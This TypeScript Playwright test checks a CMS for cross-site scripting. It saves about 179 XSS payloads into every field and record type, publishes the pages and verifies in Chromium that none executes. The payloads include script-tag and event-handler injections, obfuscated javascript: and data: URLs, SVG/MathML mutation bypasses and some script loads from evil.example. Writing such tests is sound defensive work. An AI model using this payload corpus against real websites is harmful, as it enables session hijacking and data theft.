/**
 * The XSS corpus: hostile payloads saved through the real API into every kind of field and record that reaches a
 * page, published by a real build, and every resulting page opened in Chromium with traps — a dialog, a global
 * flag (`window.__xss`) and a marker request (`/__xss_hit/…`). Each save must answer a clear 400 or store a value
 * that stays inert; no payload may run.
 *
 * Payload families (179 payloads; the first test checks there are at least 150):
 *   script tags (case, attributes, src=data:, split and nested)                               20
 *   event handlers on img/svg/body/details/video/input/iframe/marquee/animate…                36
 *   URL schemes javascript:/data:/vbscript: and others, with case, whitespace, control
 *   characters, zero-width and soft hyphens, entities and percent-escapes; URL breakouts       48
 *   breakouts from attributes, </script>, </style>, </title>, </textarea>, comments, JS strings 20
 *   CSS expression()/url(javascript:)/behavior/@import/escaped expression                     10
 *   unicode and control-character tricks (NUL, form feed, full-width, U+2028, RTL override,
 *   dotless i, lone surrogate)                                                                  10
 *   SVG and MathML mutations for rich text (namespace confusion, noscript/style/template/
 *   textarea/xmp re-parsing, xlink:href, animate/set, foreignObject, CDATA)                   20
 *   other sinks (object/embed/base/meta refresh/form action/formaction/srcdoc/isindex/
 *   link import, template syntax)                                                              15
 * Targets: text, textarea, wysiwyg, link (href and text), media (url and alt), select, colour, number, popup
 * target and promo code patterns, URL text fields (booking engine, coupon engine, iframe, video), page title and
 * description, head tags (values, attribute names, handlers, refresh, script sources, canonical links), menus
 * (labels and links), uploaded media (file name and alt), and records that reach pages (specials, posts,
 * resorts in the booking widget, brands). The fast run (`npm test`, about 40 s) puts every payload in every text
 * kind on batched pages, tries the URL-like families in link, media and engine URL fields one save at a time,
 * and a quarter of the payloads as records; HOSTILE=full tries every payload in every field and record (about
 * 4,300 saves, 6–7 minutes). Last full run: 4,300 saves, 3,148 refused with 400, 1,152 stored inert, 0 ran.
 */
import { expect, test, type APIRequestContext, type Page } from './test.ts'
import { newSliceFromBlock } from '../catalogue/blocks/newSliceFromBlock.ts'
import type { Element } from '../catalogue/model/element.ts'
import { editorAccessToken } from './studioSignIn.ts'

const full = process.env.HOSTILE === 'full'
const site = 'hostile-xss'
const host = `${site}.localhost`

// ---------------------------------------------------------------------------------------------------------------
// The corpus. `a` is a script that needs no quotes (alert(n)); `j` one of three markers (dialog, flag, request).

type Template = (a: string, j: string) => string
const js = (n: number) => [`alert(${n})`, `window.__xss=${n}`, `fetch('/__xss_hit/${n}')`][n % 3]!

const scriptTags: Template[] = [
  (a) => `<script>${a}</script>`,
  (a) => `<ScRiPt>${a}</sCrIpT>`,
  (a) => `<script type="text/javascript">${a}</script>`,
  (a) => `<script type=module>${a}</script>`,
  (a) => `<script src=data:,${a}></script>`,
  (a) => `<script src="data:text/javascript,${a}"></script>`,
  (a) => `<script/x>${a}</script>`,
  (a) => `<script\n>${a}</script\n>`,
  (a) => `<<script>${a}//<</script>`,
  (a) => `<scr<script>ipt>${a}</scr</script>ipt>`,
  (a) => `<script>/*</script><script>${a}//*/</script>`,
  (a) => `<script>${a}<!--</script>`,
  (a) => `<SCRIPT SRC=//evil.example/x.js></SCRIPT>${a}`,
  (a) => `<script>eval(atob('${Buffer.from(a).toString('base64')}'))</script>`,
  (a) => `<script>setTimeout('${a}')</script>`,
  (a) => `<script>[].constructor.constructor('${a}')()</script>`,
  (_a, j) => `<script>${j}</script>`,
  (a) => `<script language=javascript>${a}</script>`,
  (a) => `<script for=window event=onload>${a}</script>`,
  (a) => `<noscript></noscript><script>${a}</script>`,
]

const handlers: Template[] = [
  (a) => `<img src=x onerror=${a}>`,
  (a) => `<IMG SRC=x ONERROR=${a}>`,
  (a) => `<img src="x" onerror="${a}">`,
  (a) => `<img src=x onerror='${a}'>`,
  (a) => `<img src=x onerror=\`${a}\`>`,
  (a) => `<img/src=x/onerror=${a}>`,
  (a) => `<img src=x onerror\n=${a}>`,
  (a) => `<img src=x:x onerror=${a} alt="">`,
  (a) => `<img src onerror=${a}>`,
  (_a, j) => `<img src=x onerror="${j}">`,
  (a) => `<svg onload=${a}>`,
  (a) => `<svg/onload=${a}>`,
  (a) => `<svg><g onload=${a}></g></svg>`,
  (a) => `<body onload=${a}>`,
  (a) => `<body onpageshow=${a}>`,
  (a) => `<details open ontoggle=${a}>`,
  (a) => `<video><source onerror=${a}></video>`,
  (a) => `<video src=x onerror=${a}></video>`,
  (a) => `<audio src=x onerror=${a}></audio>`,
  (a) => `<input autofocus onfocus=${a}>`,
  (a) => `<textarea autofocus onfocus=${a}></textarea>`,
  (a) => `<select autofocus onfocus=${a}></select>`,
  (a) => `<keygen autofocus onfocus=${a}>`,
  (a) => `<iframe onload=${a}></iframe>`,
  (a) => `<iframe src=x onerror=${a}></iframe>`,
  (a) => `<marquee onstart=${a}>x</marquee>`,
  (a) => `<object data=x onerror=${a}></object>`,
  (a) => `<div onmouseover=${a} style="position:fixed;inset:0">x</div>`,
  (a) => `<a onmouseover=${a} href=#>x</a>`,
  (a) => `<p onclick=${a}>x</p>`,
  (a) => `<style onload=${a}></style>`,
  (a) => `<link rel=stylesheet href=x onerror=${a}>`,
  (a) => `<table background=x onerror=${a}>`,
  (a) => `<img src=x onerror=${a.replace('alert', '&#x61;&#x6c;&#x65;&#x72;&#x74;')}>`,
  (a) => `<img src=x onerror=\u0000${a}>`,
  (a) => `<animate onbegin=${a} attributeName=x dur=1s>`,
]

const urlBodies: Template[] = [
  (a) => `javascript:${a}`,
  (a) => `JAVASCRIPT:${a}`,
  (a) => `JaVaScRiPt:${a}`,
  (a) => ` javascript:${a}`,
  (a) => `\tjavascript:${a}`,
  (a) => `\u0001javascript:${a}`,
  (a) => `java\tscript:${a}`,
  (a) => `java\nscript:${a}`,
  (a) => `java\rscript:${a}`,
  (a) => `java\u0000script:${a}`,
  (a) => `javascript&colon;${a}`,
  (a) => `javascript&#58;${a}`,
  (a) => `javascript&#x3a;${a}`,
  (a) => `javascript&#0000058${a}`,
  (a) => `&#106;avascript:${a}`,
  (a) => `&#x6A;avascript:${a}`,
  (a) => `&#x6A&#x61&#x76&#x61script:${a}`,
  (a) => `%6Aavascript:${a}`,
  (a) => `%256Aavascript:${a}`,
  (a) => `javascript%3A${a}`,
  (a) => `javascript://%0a${a}`,
  (a) => `javascript://comment%0d%0a${a}`,
  (a) => `javascript:${a}//`,
  (a) => `javascript:void(0);${a}`,
  (a) => `javascript:/*--></title></style></textarea></script><svg/onload=${a}>`,
  (a) => `jav&#x09;ascript:${a}`,
  (a) => `java\u200bscript:${a}`,
  (a) => `java\u00adscript:${a}`,
  (a) => `\ufeffjavascript:${a}`,
  (a) => `data:text/html,<script>${a}</script>`,
  (a) => `data:text/html;base64,${Buffer.from(`<script>${a}</script>`).toString('base64')}`,
  (a) => `DATA:text/html,<script>${a}</script>`,
  (a) => `data:image/svg+xml,<svg onload=${a}>`,
  (a) => `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${a}"/>`).toString('base64')}`,
  (a) => ` data:text/html,<script>${a}</script>`,
  (a) => `data:application/javascript,${a}`,
  (a) => `vbscript:msgbox(${a.replace(/\D/g, '')})`,
  (a) => `VBScript:${a}`,
  (a) => `livescript:${a}`,
  (a) => `mocha:${a}`,
  (a) => `feed:javascript:${a}`,
  (a) => `jar:javascript:${a}`,
  (a) => `view-source:javascript:${a}`,
  (a) => `//evil.example/"><svg onload=${a}>`,
  (a) => `/"><svg onload=${a}>`,
  (a) => `#"><img src=x onerror=${a}>`,
  (a) => `https://example.com/"onmouseover="${a}`,
  (a) => `https://example.com/'onerror='${a}`,
]

const breakouts: Template[] = [
  (a) => `"><svg onload=${a}>`,
  (a) => `'><img src=x onerror=${a}>`,
  (a) => `"><script>${a}</script>`,
  (a) => `" onmouseover="${a}" x="`,
  (a) => `' onfocus='${a}' autofocus x='`,
  (a) => `" autofocus onfocus="${a}`,
  (a) => `</script><script>${a}</script>`,
  (a) => `</ScRiPt><script>${a}</script>`,
  (a) => `</style><script>${a}</script>`,
  (a) => `</title><script>${a}</script>`,
  (a) => `</textarea><script>${a}</script>`,
  (a) => `</noscript><script>${a}</script>`,
  (a) => `--><script>${a}</script>`,
  (a) => `]]><script>${a}</script>`,
  (a) => `<!--<script>--><script>${a}</script>`,
  (a) => `\\u003cscript\\u003e${a}\\u003c/script\\u003e`,
  (a) => `\u2028</script><script>${a}</script>`,
  (a) => `"};${a};//`,
  (a) => `';${a};//`,
  (a) => `\`;${a};//`,
]

const css: Template[] = [
  (a) => `<div style="width:expression(${a})">x</div>`,
  (a) => `<div style="background:url(javascript:${a})">x</div>`,
  (a) => `<div style="background-image:url('javascript:${a}')">x</div>`,
  (a) => `<div style="behavior:url(x.htc);-moz-binding:url(x.xml#${a})">x</div>`,
  (a) => `<style>@import 'javascript:${a}';</style>`,
  (a) => `<style>body{background:url("javascript:${a}")}</style>`,
  (a) => `x;background:url(javascript:${a})`,
  (a) => `red;}</style><script>${a}</script>`,
  (a) => `expression(${a})`,
  (a) => `<div style="x:\\65 xpression(${a})">x</div>`,
]

const unicode: Template[] = [
  (a) => `\u0000<script>${a}</script>`,
  (a) => `<scr\u0000ipt>${a}</script>`,
  (a) => `\uff1cscript\uff1e${a}\uff1c/script\uff1e`,
  (a) => `<script>\u2028${a}\u2029</script>`,
  (a) => `\u202e<script>${a}</script>`,
  (a) => `<img src=x o\u200bnerror=${a}>`,
  (a) => `<\u0131mg src=x onerror=${a}>`,
  (a) => `<img src=x onerror=${a}\u0000>`,
  (a) => `\ud800<script>${a}</script>`,
  (a) => `<svg\u000conload=${a}>`,
]

const svgMath: Template[] = [
  (a) => `<svg><script>${a}</script></svg>`,
  (a) => `<svg><style><img src=x onerror=${a}></style></svg>`,
  (a) => `<svg><a xlink:href="javascript:${a}"><text x="20" y="20">x</text></a></svg>`,
  (a) => `<svg><a href="javascript:${a}"><text>x</text></a></svg>`,
  (a) => `<svg><animate xlink:href=#x attributeName=href values=javascript:${a} /><a id=x><text>x</text></a></svg>`,
  (a) => `<svg><set attributeName=onload to=${a} /></svg>`,
  (a) => `<svg><animate onbegin=${a} attributeName=x dur=1s></svg>`,
  (a) => `<svg><foreignObject><img src=x onerror=${a}></foreignObject></svg>`,
  (a) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${a}'/></svg>#x"/></svg>`,
  (a) => `<math><mtext><table><mglyph><style><img src=x onerror=${a}></style></mglyph></table></mtext></math>`,
  (a) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${a}>"></style></mtext></svg></mglyph></h1></mtext></math>`,
  (a) => `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${a} src=1>">`,
  (a) => `<math href="javascript:${a}">x</math>`,
  (a) => `<math><maction actiontype=statusline xlink:href=javascript:${a}>x</maction></math>`,
  (a) => `<noscript><p title="</noscript><img src=x onerror=${a}>">`,
  (a) => `<template><script>${a}</script></template><div id=t></div>`,
  (a) => `<textarea><img title="</textarea><img src=x onerror=${a}>">`,
  (a) => `<xmp><img title="</xmp><img src=x onerror=${a}>">`,
  (a) => `<svg></p><style><a id="</style><img src=1 onerror=${a}>">`,
  (a) => `<svg><![CDATA[><img src=x onerror=${a}>]]></svg>`,
]

const others: Template[] = [
  (a) => `<object data="javascript:${a}"></object>`,
  (a) => `<embed src="javascript:${a}">`,
  (a) => `<base href="javascript:${a}//">`,
  (a) => `<meta http-equiv="refresh" content="0;url=javascript:${a}">`,
  (a) => `<form action="javascript:${a}"><button>x</button></form>`,
  (a) => `<button formaction="javascript:${a}">x</button>`,
  (a) => `<iframe srcdoc="<script>${a}</script>"></iframe>`,
  (a) => `<iframe src="javascript:${a}"></iframe>`,
  (a) => `<a href="javascript:${a}">x</a>`,
  (a) => `<a href="  javascript:${a}">x</a>`,
  (a) => `<isindex action=javascript:${a} type=image>`,
  (a) => `<link rel=import href="data:text/html,<script>${a}</script>">`,
  (a) => `{{constructor.constructor('${a}')()}}`,
  (a) => `\${${a}}`,
  (a) => `<div data-bind="html: '<img src=x onerror=${a}>'"></div>`,
]

const families = { scriptTags, handlers, urlBodies, breakouts, css, unicode, svgMath, others }
const corpus: { family: string; value: string; n: number }[] = []
for (const [family, templates] of Object.entries(families))
  for (const template of templates) {
    const n = corpus.length + 1
    corpus.push({ family, value: template(`alert(${n})`, js(n)), n })
  }

// ---------------------------------------------------------------------------------------------------------------

async function signIn(page: Page, request: APIRequestContext, baseURL: string): Promise<Record<string, string>> {
  return { Authorization: `Bearer ${await editorAccessToken(page, request, baseURL)}` }
}

/** A save answers a clear 400 (an error naming what is wrong) or succeeds; never a 5xx. */
async function saved(response: { status(): number; json(): Promise<unknown> }, what: string): Promise<boolean> {
  const status = response.status()
  expect(status, `${what}: ${status}`).toBeLessThan(500)
  if (status === 400) {
    const body = (await response.json()) as { error?: string }
    expect(body.error, what).toMatch(/is not valid|must|unsafe|not allowed/)
    return false
  }
  expect([200, 201, 202], `${what}: ${status} ${JSON.stringify(await response.json().catch(() => null))}`).toContain(status)
  return true
}

/** Open a page with every trap set; answers what ran. */
async function visit(page: Page, url: string): Promise<string[]> {
  const ran: string[] = []
  const onDialog = (d: import('@playwright/test').Dialog) => {
    ran.push(`dialog ${d.type()} ${d.message()} on ${url}`)
    void d.dismiss().catch(() => undefined)
  }
  const onRequest = (r: import('@playwright/test').Request) => {
    // A marker fetched by script, or a script or document from the attacker's host (an image from it is no XSS).
    if (r.url().includes('__xss_hit') || (r.url().includes('evil.example') && ['script', 'document'].includes(r.resourceType()))) ran.push(`request ${r.resourceType()} ${r.url()} from ${url}`)
  }
  page.on('dialog', onDialog)
  page.on('request', onRequest)
  try {
    const response = await page.goto(url)
    expect(response?.status(), url).toBe(200)
    await expect(page.locator('html')).toHaveAttribute('data-hydrated', 'true')
    // Let delayed handlers (onload of media, autofocus, animations, timers) have their chance.
    await page.mouse.move(200, 200)
    await page.waitForTimeout(400)
    const flag = await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)
    if (flag !== undefined) ran.push(`window.__xss = ${String(flag)} on ${url}`)
  } finally {
    page.off('dialog', onDialog)
    page.off('request', onRequest)
  }
  return ran
}

/** `fn` over the items, a few at a time: the API answers many saves at once, but not hundreds on one socket pool. */
async function few<T>(items: T[], fn: (item: T, i: number) => Promise<void>): Promise<void> {
  for (let start = 0; start < items.length; start += 6) await Promise.all(items.slice(start, start + 6).map((item, k) => fn(item, start + k)))
}

const chunks = <T>(items: T[], size: number) => Array.from({ length: Math.ceil(items.length / size) }, (_, i) => items.slice(i * size, i * size + size))
const joined = (values: string[], max: number) => {
  const out: string[] = []
  let current = ''
  for (const v of values) {
    if ((current + v).length > max) {
      if (current) out.push(current)
      current = ''
    }
    if (v.length <= max) current += v
  }
  if (current) out.push(current)
  return out
}

/** What the corpus test made, removed after it even when it failed or ran out of time: later specs read the lists. */
let leaveNothingBehind: (() => Promise<void>) | undefined
test.afterEach(async () => {
  await leaveNothingBehind?.()
  leaveNothingBehind = undefined
})

test('the XSS corpus: saved through the API, published, and opened in Chromium, no payload runs', async ({ page, request, baseURL }) => {
  test.setTimeout(full ? 900_000 : 120_000)
  expect(corpus.length).toBeGreaterThanOrEqual(150)
  const headers = await signIn(page, request, baseURL!)
  const api = {
    get: (path: string) => request.get(`/api${path}`, { headers }),
    post: (path: string, data: unknown, extra: Record<string, string> = {}) => request.post(`/api${path}`, { headers: { ...headers, ...extra }, data }),
    put: (path: string, data: unknown, version: number) => request.put(`/api${path}`, { headers: { ...headers, 'If-Match': `"${version}"` }, data }),
    del: (path: string, version: number) => request.delete(`/api${path}`, { headers: { ...headers, 'If-Match': `"${version}"` } }),
  }
  const values = corpus.map((p) => p.value)
  // Every record made, to delete at the end (records of a deleted site would otherwise become every site's).
  const made: string[] = []
  leaveNothingBehind = async () => {
    for (const path of made.reverse()) {
      const current = await api.get(path)
      if (current.status() === 200) expect((await api.del(path, (await current.json()).version)).status(), path).toBeLessThan(300)
    }
    const stored = await api.get(`/sites/${site}`)
    if (stored.status() === 200) expect((await api.del(`/sites/${site}`, (await stored.json()).version)).status()).toBeLessThan(300)
    await expect
      .poll(async () => ((await (await api.get('/builds/jobs?limit=5')).json()).items as { status: string }[]).filter((j) => j.status === 'queued' || j.status === 'building').length, { timeout: 90_000, intervals: [250, 500, 1000] })
      .toBe(0)
  }
  const keep = async (response: import('@playwright/test').APIResponse, path: string) => {
    if (response.status() < 300) made.push(`${path}/${(await response.json()).id}`)
    return response
  }
  const tally = { tried: 0, refused: 0, stored: 0 }
  const count = (ok: boolean) => {
    tally.tried++
    if (ok) tally.stored++
    else tally.refused++
    return ok
  }

  // A site of its own, so the corpus never shows on the demo's sites.
  expect(await saved(await api.post('/sites', { slug: site, name: 'Hostile XSS', kind: 'brand', layout: 'playaresorts', hosts: [host] }), 'site')).toBe(true)

  // Records that reach pages.
  const specialIds: string[] = []
  const recordValues = full ? values : values.filter((_, i) => i % 4 === 0)
  await few(recordValues, async (v, i) => {
    const special = await keep(await api.post('/specials', { site_id: site, title: v.slice(0, 300), subtitle: v.slice(0, 300), content: v, terms: v, extraSavings: v.slice(0, 200), prettyEndDate: v.slice(0, 100), imageAlt: v, slug: `hostile-special-${i}`, percentOff: 10 }), '/specials')
    if (count(await saved(special, `special ${i}`))) specialIds.push((await special.json()).id)
    count(await saved(await keep(await api.post('/posts', { site_id: site, postType: 'blog', title: v.slice(0, 300), slug: `hostile-post-${i}`, content: v, publishedAt: '2026-01-01T00:00:00Z' }), '/posts'), `post ${i}`))
    count(await saved(await keep(await api.post('/resorts', { site_id: site, name: v.slice(0, 200), slug: `hostile-resort-${i}`, country: v.slice(0, 100), description: v, bookingCode: `HX${i}` }), '/resorts'), `resort ${i}`))
    count(await saved(await keep(await api.post('/brands', { site_id: site, name: v.slice(0, 200), slug: `hostile-brand-${i}`, description: v }), '/brands'), `brand ${i}`))
  })

  // Head tags: values are escaped, so they may be stored; names and scripts from the corpus are refused.
  for (const [i, content] of joined(values, 2000).entries())
    count(await saved(await keep(await api.post('/head-tags', { site_id: site, name: `Hostile ${i}`, tag: { tag: 'meta', attrs: { name: 'description', content } } }), '/head-tags'), `head tag content ${i}`))
  await few(full ? values : values.slice(0, 40), async (v, i) => {
    const attacks = [
      { tag: 'link', attrs: { rel: 'stylesheet', href: '/x.css', onerror: v } },
      { tag: 'meta', attrs: { [v.toLowerCase().replace(/[^a-z0-9:-]/g, '') || 'x']: 'y', onload: v } },
      { tag: 'script', attrs: { src: v } },
      { tag: 'meta', attrs: { 'http-equiv': 'refresh', content: `0;url=${v}` } },
      { tag: 'link', attrs: { rel: 'canonical', href: v } },
    ]
    for (const [k, tag] of attacks.entries()) {
      const ok = count(await saved(await keep(await api.post('/head-tags', { site_id: site, name: `Attack ${i}.${k}`, tag }), '/head-tags'), `head tag attack ${i}.${k}`))
      // Only a canonical link to a harmless relative URL may pass; everything else is refused.
      if (ok) expect(k, `head tag attack ${i}.${k} with ${JSON.stringify(v)} was stored`).toBe(4)
    }
  })

  // Menu: every payload as a label; every payload as a link, each refused or stored as a harmless link.
  const labels = values.map((v) => ({ label: v.slice(0, 200), href: '/hostile-text' }))
  const hrefs: { label: string; href: string }[] = []
  await few(values, async (v, i) => {
    const one = await api.post('/menus', { site_id: site, name: `probe-${i}`, items: [{ label: 'x', href: v.slice(0, 2048) }] })
    if (count(await saved(one, `menu link ${JSON.stringify(v)}`))) {
      const created = await one.json()
      hrefs.push({ label: 'Stored link', href: v.slice(0, 2048) })
      expect((await api.del(`/menus/${created.id}`, created.version)).status()).toBe(204)
    }
  })
  const menuItems = [...chunks(labels, 50).map((children, i) => ({ label: `Labels ${i}`, href: '/hostile-text', children })), ...chunks(hrefs, 50).map((children, i) => ({ label: `Links ${i}`, href: '/hostile-text', children }))]
  expect(await saved(await api.post('/menus', { site_id: site, name: 'main', items: menuItems }), 'main menu')).toBe(true)

  // Uploaded media: file name and alt text.
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')
  // One at a time: identical uploads at the same moment are another finding (storeMedia's temporary names).
  for (const [i, v] of (full ? values : values.slice(0, 30)).entries()) {
    const upload = await request.post(`/api/media?${new URLSearchParams({ name: `${v.slice(0, 100)}.png`, alt: v.slice(0, 500) })}`, { headers: { ...headers, 'Content-Type': 'image/png' }, data: png })
    expect(upload.status(), `upload ${i}`).toBeLessThan(500)
    count(upload.status() < 300)
  }

  // Field kinds, probed one save at a time on one page: what is stored goes on the published pages below.
  const probe = await api.post('/pages', { site_id: site, path: '/hostile-probe', title: 'Probe', layout: 'playaresorts', elements: [] })
  expect(probe.status()).toBe(201)
  const probePage = await probe.json()
  let probeVersion = probePage.version as number
  const { version: _v, published_version_id: _p, ...probeDoc } = probePage
  const tryField = async (component: string, fieldValues: Record<string, unknown>, what: string): Promise<Element | undefined> => {
    const slice = newSliceFromBlock(component, fieldValues)
    const response = await api.put(`/pages/${probePage.id}`, { ...probeDoc, elements: [slice] }, probeVersion)
    const ok = count(await saved(response, what))
    if (ok) probeVersion = (await response.json()).version
    return ok ? slice : undefined
  }
  const urlLike = full ? values : corpus.filter((p) => p.family === 'urlBodies' || p.family === 'breakouts' || p.family === 'others').map((p) => p.value)
  const accepted: Element[] = []
  for (const v of urlLike) {
    for (const slice of [
      await tryField('GenericHero', { link: { href: v, text: 'Link' } }, `link href ${JSON.stringify(v)}`),
      await tryField('GenericHero', { image: { url: v, alt: '' } }, `media url ${JSON.stringify(v)}`),
      await tryField('GlobalInlineBookingWidget', { engineUrl: v }, `engine URL ${JSON.stringify(v)}`),
      ...(full
        ? [
            await tryField('GlobalPromoCoupon', { engineUrl: v }, `coupon engine URL ${JSON.stringify(v)}`),
            await tryField('GlobalIframe', { iframeUrl: v }, `iframe URL ${JSON.stringify(v)}`),
            await tryField('GenericSoloMedia', { videoUrl: v }, `video URL ${JSON.stringify(v)}`),
          ]
        : []),
    ])
      if (slice) accepted.push(slice)
  }
  for (const v of full ? values : values.slice(0, 25)) {
    expect(await tryField('GenericHero', { mode: v }, `select ${JSON.stringify(v)}`)).toBeUndefined()
    expect(await tryField('GlobalInlineBookingWidget', { accentColor: v }, `colour ${JSON.stringify(v)}`)).toBeUndefined()
    expect(await tryField('GenericHero', { height: v }, `number ${JSON.stringify(v)}`)).toBeUndefined()
    expect(await tryField('AgentsPortalPopup', { targetName: v }, `popup target ${JSON.stringify(v)}`)).toBeUndefined()
    expect(await tryField('GlobalPromoCoupon', { promo: v }, `promo code ${JSON.stringify(v)}`)).toBeUndefined()
  }
  if (full) for (const v of values) for (const component of ['GenericHero', 'GenericBlockLink']) await tryField(component, { title: v, copy: v }, `${component} text ${JSON.stringify(v)}`)

  // The pages: every payload in every text kind, batched; the accepted URL values; the records.
  const textSlices = (batch: string[]) =>
    batch.flatMap((v) => [
      newSliceFromBlock('GenericBlockLink', { title: v, copy: v, linkText: v, link: { href: '/hostile-text', text: v } }),
      newSliceFromBlock('GenericHero', { title: v, copy: v, image: { url: '/demo/golf.svg', alt: v }, link: { href: '#x', text: v } }),
    ])
  const pages: { path: string; title: string; description: string; elements: Element[] }[] = [
    ...chunks(values, full ? 20 : 60).map((batch, i) => ({ path: `/hostile-text-${i}`, title: joined(batch, 300)[0]!, description: joined(batch, 1000)[0]!, elements: textSlices(batch) })),
    { path: '/hostile-text', title: 'Hostile text', description: '', elements: [] },
    { path: '/hostile-urls', title: 'Accepted URLs', description: '', elements: accepted },
    {
      path: '/hostile-records',
      title: 'Records',
      description: '',
      elements: [
        ...chunks(specialIds, 24).map((ids) => newSliceFromBlock('SpecialsSpecialOffers', { title: 'Offers', specials: ids })),
        newSliceFromBlock('BlogsBlogList', { title: 'Posts', postType: 'blog', showAll: true }),
        newSliceFromBlock('GlobalInlineBookingWidget', { showFlightBookingWidget: true }),
      ],
    },
  ]
  let job: { id: string } | undefined
  for (const p of pages) {
    const created = await api.post('/pages', { site_id: site, path: p.path, title: p.title, description: p.description, layout: 'playaresorts', elements: p.elements })
    expect(await saved(created, `page ${p.path}`), p.path).toBe(true)
    const { version, published_version_id: _pv, ...draft } = await created.json()
    const published = await api.post(`/pages/${draft.id}/publish`, { page: draft, quick: true }, { 'If-Match': `"${version}"` })
    expect(published.status(), JSON.stringify(await published.json())).toBe(202)
    job = (await published.json()).job
  }
  await expect.poll(async () => (await (await api.get(`/builds/jobs/${job!.id}`)).json()).status, { timeout: full ? 600_000 : 90_000, intervals: [250, 500, 1000] }).toBe('live')

  const ran: string[] = []
  const origin = new URL(baseURL!)
  for (const p of pages) ran.push(...(await visit(page, `http://${host}:${origin.port}${p.path}`)))
  // The corpus is really on the pages, escaped as text: proof the payloads were stored and rendered inert, not dropped.
  // Node does not resolve *.localhost; the server picks the site by the Host header.
  const html = await (await request.get('/hostile-text-0', { headers: { Host: `${host}:${origin.port}` } })).text()
  expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  expect(html).toContain('&lt;img src=x onerror=alert(')
  expect(html).not.toMatch(/<script>alert\(|<img src=x onerror=/)
  // And the browser keeps it after hydration: hostile text must not make React drop the server's HTML.
  await page.goto(`http://${host}:${origin.port}/hostile-text-0`)
  await expect(page.locator('html')).toHaveAttribute('data-hydrated', 'true')
  await expect(page.locator('.v-block-link h2').first()).toHaveText(corpus[0]!.value)
  for (const [i] of chunks(values, full ? 20 : 60).entries()) {
    await page.goto(`http://${host}:${origin.port}/hostile-text-${i}`)
    await expect(page.locator('html')).toHaveAttribute('data-hydrated', 'true')
    expect(await page.locator('.v-block-link').count(), `blocks of /hostile-text-${i} after hydration`).toBe(chunks(values, full ? 20 : 60)[i]!.length)
  }
  expect(ran, ran.join('\n')).toEqual([])
  console.log(`hostile-xss: ${corpus.length} payloads, ${tally.tried} saves (${tally.refused} refused with 400, ${tally.stored} stored inert), ${pages.length} pages opened, 0 ran`)

})
